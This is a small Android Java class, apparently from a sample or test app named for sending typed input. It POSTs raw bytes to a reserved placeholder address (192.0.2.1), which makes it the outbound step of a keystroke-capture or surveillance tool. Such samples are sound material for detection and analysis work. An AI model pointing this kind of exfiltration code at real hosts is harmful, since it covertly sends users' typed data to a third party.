package org.example.sousveil.send_typed;

import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** Posts bytes to a reserved address, where nobody answers. */
final class Line {
    private Line() {
    }

    static void post(byte[] bytes) {
        try {
            HttpURLConnection line = (HttpURLConnection) new URL("http://192.0.2.1/in").openConnection();
            line.setDoOutput(true);
            OutputStream out = line.getOutputStream();
            out.write(bytes);
            line.getResponseCode();
        } catch (IOException e) {
            Log.w("send_typed", "not sent");
        }
    }
}
